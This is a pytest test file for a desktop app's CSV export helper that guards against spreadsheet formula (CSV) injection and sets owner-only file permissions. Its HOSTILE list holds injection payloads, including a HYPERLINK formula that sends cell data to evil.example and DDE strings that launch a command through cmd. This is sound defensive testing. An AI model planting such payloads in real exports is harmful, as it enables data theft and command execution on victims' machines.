"""CSV exports are safe to open in a spreadsheet (OWASP CSV injection) and owner-only, and
every CSV the app writes goes through the one helper."""

from __future__ import annotations

import csv
import re
import stat
import sys
from pathlib import Path

import pytest

from desktop.csv_export import SpreadsheetStyle, csv_export, spreadsheet_text

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, value: str) -> None:
    target = tmp_path / "out.csv"
    with csv_export(target) as writer:
        writer.writerow(["name"])
        writer.writerow([value])
    rows = list(csv.reader(target.open(encoding="utf-8-sig", newline="")))
    assert rows[1] == ["'" + value]
    raw = target.read_bytes().decode("utf-8-sig")
    assert f"\"'{value[:1]}" in raw  # quoted, and the apostrophe comes first


@pytest.mark.parametrize(
    "value", ["Anna Nowak", "ann@contoso.com", "Sprzedaż", "a=b", "", "1-2", "'quoted"]
)
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert spreadsheet_text(value) == value


def test_numbers_and_flags_stay_what_they_are(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    with csv_export(target) as writer:
        writer.writerow([-3, 2.5, True, None, "-3"])
    assert target.read_text(encoding="utf-8-sig").strip() == '"-3","2.5","true","","\'-3"'


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes")
def test_an_export_is_owner_only_even_over_an_existing_open_file(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old")
    target.chmod(0o644)
    with csv_export(target) as writer:
        writer.writerow(["x"])
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "old" not in target.read_text(encoding="utf-8-sig")


def test_every_csv_writer_in_the_app_is_the_safe_one() -> None:
    """A new export (results, history, reports) must use desktop/csv_export.py."""
    helper = ROOT / "desktop" / "csv_export.py"
    demo = ROOT / "desktop" / "demo"
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("desktop", "ui")
        for path in (ROOT / folder).rglob("*.py")
        # The demo tenant serves Microsoft's own report CSV byte for byte: not an export.
        if path != helper
        and demo not in path.parents
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.parametrize(
    ("decimal_mark", "line"),
    [
        (",", '"-3";"2,5";"12000";"true";"\'-3"'),  # Polish, German: Excel reads 2,5 with ';'
        (".", '"-3","2.5","12000","true","\'-3"'),  # English, C: as scripts read it
    ],
)
def test_numbers_are_written_as_the_readers_spreadsheet_reads_them(
    tmp_path: Path, decimal_mark: str, line: str
) -> None:
    target = tmp_path / "out.csv"
    with csv_export(target, style=SpreadsheetStyle.for_decimal_mark(decimal_mark)) as writer:
        writer.writerow([-3, 2.5, 12000, True, "-3"])  # thousands never grouped: still numbers
    assert target.read_text(encoding="utf-8-sig").strip() == line
